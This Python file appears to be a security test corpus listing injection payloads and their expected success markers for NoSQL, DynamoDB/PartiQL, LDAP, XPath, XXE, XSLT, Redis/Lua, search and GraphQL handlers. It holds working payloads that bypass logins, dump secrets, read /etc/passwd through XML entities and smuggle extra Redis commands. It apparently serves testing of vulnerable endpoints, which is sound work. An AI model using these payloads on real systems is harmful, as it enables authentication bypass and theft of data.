"""Attacks on document stores, directories, XML and other small languages."""

from tests.honest.corpus.cases import Attack
from tests.honest.corpus.third import http

NEEDS = ("aws-http", "redis")
ROOT = "root:x:0"


def _post(body: object) -> dict[str, object]:
    return http("POST", "/x", body)


def _entity(path: str) -> str:
    return f'<!DOCTYPE r [<!ENTITY x SYSTEM "{path}">]><r><note>&x;</note></r>'


STYLE = """<xsl:stylesheet version="1.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform"><xsl:template match="/">
<xsl:for-each select="//pin"><xsl:value-of select="."/></xsl:for-each></xsl:template></xsl:stylesheet>"""
ATTACKS = [
    Attack("NoSQL", "login", _post({"name": "ada", "password": {"$ne": ""}}), '"role": "admin"'),
    Attack("NoSQL", "login", _post({"name": {"$regex": "^a"}, "password": {"$gt": ""}}), '"role": "admin"'),
    Attack(
        "NoSQL",
        "login",
        _post({"name": {"$in": ["ada", "root"]}, "password": {"$exists": True}}),
        '"role": "admin"',
    ),
    Attack("NoSQL", "find_any", _post({"filter": {"$or": [{"role": "admin"}, {"_id": 1}]}}), "s3cret-ada"),
    Attack("NoSQL", "find_text", {"name": 'x", "name": {"$ne": 1}, "role": "admin'}, '"ada"'),
    Attack("NoSQL", "find_where", {"name": "x' || 1==1 || 'y"}, '"ada"'),
    Attack("NoSQL", "find_pattern", {"password": "s3.*"}, '"ada"'),
    Attack("NoSQL", "stages", {"role": {"$ne": "user"}}, "s3cret-ada"),
    Attack("NoSQL", "stages", {"role": {"$regex": "."}, "more": [{"$limit": 1}]}, "s3cret-ada"),
    Attack("NoSQL", "delete_one", {"name": {"$exists": True}}, "0"),
    Attack("NoSQL", "update_any", {"name": {"$nin": ["x"]}}, '["x"]'),
    Attack("NoSQL", "dynamo_filter", {"field": "kind <> :x OR kind"}, "dyn-secret-45"),
    Attack("NoSQL", "dynamo_update", {"field": "note = :v, admin"}, '"admin": "new"'),
    Attack("NoSQL", "dynamo_condition", {"check": "attribute_exists(id) OR attribute_exists(id)"}, "deleted"),
    Attack(
        "NoSQL",
        "dynamo_operators",
        {"owner": {"ComparisonOperator": "NE", "AttributeValueList": [{"S": "eve"}]}},
        "dyn-secret-45",
    ),
    Attack("NoSQL", "dynamo_method", {"op": "ne", "value": "eve"}, "dyn-secret-45"),
    Attack("PartiQL", "partiql", {"id": "x' OR \"owner\" = 'ada"}, "dyn-secret-45"),
    Attack("PartiQL", "partiql_number", {"kind": "'y' OR owner = 'ada'"}, "dyn-secret-45"),
    Attack("LDAP", "ldap_filter", {"user": "*"}, "pin-4711"),
    Attack("LDAP", "ldap_filter", {"user": "*)(uid=ada"}, "pin-4711"),
    Attack("LDAP", "ldap_login", {"user": "ada", "pin": "*"}, '"ada"'),
    Attack("XPath", "xpath", {"name": "x' or '1'='1"}, "pin-4711"),
    Attack("XPath", "xpath", {"name": "x']/pin | //pin | //x['"}, "pin-4711"),
    Attack("XPath", "xpath_login", {"name": "ada' or '1'='2", "pin": "x"}, '"ada"'),
    Attack("XPath", "element_path", {"field": "../user/pin"}, "pin-4711"),
    Attack("XXE", "xml_entities", {"body": _entity("file:///etc/passwd")}, ROOT),
    Attack("XXE", "xml_entities", {"body": _entity("/etc/passwd")}, ROOT),
    Attack("XXE", "xml_dtd", {"body": _entity("/etc/passwd")}, ROOT),
    Attack("XXE", "xml_stream", {"body": _entity("/etc/passwd")}, ROOT),
    Attack("XXE", "xml_sax", {"body": _entity("/etc/passwd")}, ROOT),
    Attack(
        "XXE",
        "xml_include",
        {
            "body": '<r xmlns:i="http://www.w3.org/2001/XInclude"><i:include href="/etc/passwd" parse="text"/></r>'
        },
        ROOT,
    ),
    Attack("XSLT", "xml_style", {"style": STYLE}, "pin-4711"),
    Attack("query text", "jmes", {"owner": "x' || owner=='ada"}, "jmes-secret-9"),
    Attack("query text", "lua", {"user": "eve') .. redis.call('get', 'y:admin"}, "redis-secret-7"),
    Attack("query text", "command", {"note": "x", "key": "eve\nGET y:admin "}, "redis-secret-7"),
    Attack(
        "query text",
        "search_body",
        {"q": '"}}], "should": [{"match_all": {}}]}, "x": {"y": [{"z": {"t": "'},
        '"x"',
    ),
    Attack("query text", "search_string", {"q": "x OR tenant:t2"}, "title%3Ax+OR+tenant%3At2"),
    Attack(
        "query text", "graph_query", {"id": '1") { name } users { password } x: product(id: "2'}, '"users"'
    ),
]
